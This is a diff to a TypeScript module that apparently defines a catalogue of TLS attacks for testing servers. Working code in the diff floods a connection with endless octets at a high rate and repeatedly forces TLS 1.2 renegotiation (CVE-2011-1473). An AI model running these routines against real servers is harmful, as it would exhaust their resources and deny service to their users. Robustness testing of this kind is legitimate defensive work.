@@ -117,6 +117,7 @@ export const TLS: readonly Attack[] = [
     advisory: 'RFC 8446 section 5.2',
     sends: 'After the handshake a record that is not encrypted, then octets without end.',
     needs: ['tls'],
+    rate: { octetsPerSecond: 268_435_456, control: 'uploads' },
     async run(host) {
       const connection = await host.tcp(true)
       await handshake(connection.socket)
@@ -127,21 +128,20 @@ export const TLS: readonly Attack[] = [
       })
     },
   },
-  {
-    name: 'tls-renegotiation',
-    advisory: 'CVE-2011-1473',
-    sends: 'TLS 1.2 that is renegotiated again and again.',
-    needs: ['tls'],
-    async run(host) {
+  again(
+    'tls-renegotiation',
+    'CVE-2011-1473',
+    'TLS 1.2 that is renegotiated as soon as it is there.',
+    async (host) => {
       const connection = await host.secure({ maxVersion: 'TLSv1.2' })
       await connection.begin()
       const socket = connection.socket as TLSSocket
-      while (connection.isOpen) {
-        await Promise.race([renegotiated(socket), connection.over()])
-        if (!(await host.sleep(host.below ? 1000 : PAUSE))) return
-      }
+      socket.renegotiate({ rejectUnauthorized: false }, () => {})
+      // A refusal is an alert that Node does not tell of.
+      await Promise.race([host.sleep(50), connection.over()])
+      connection.close()
     },
-  },
+  ),
   {
     name: 'tls-half-record',
     advisory: 'RFC 8446 section 5.1',
@@ -166,14 +166,4 @@ async function handshake(socket: Socket): Promise<void> {
   const secure = connect({ socket: tunnel, ALPNProtocols: ['h2'], rejectUnauthorized: false })
   secure.on('error', () => {})
   await Promise.race([once(secure, 'secureConnect'), once(socket, 'close')])
-}
-
-/** What comes of it, if anything does: servers refuse it, or end the connection. */
-function renegotiated(socket: TLSSocket): Promise<void> {
-  return new Promise((resolve) => {
-    const begun = socket.renegotiate({ rejectUnauthorized: false }, () => resolve())
-    if (begun === false) resolve()
-    // A refusal is an alert that Node does not tell of.
-    setTimeout(resolve, 50)
-  })
 }
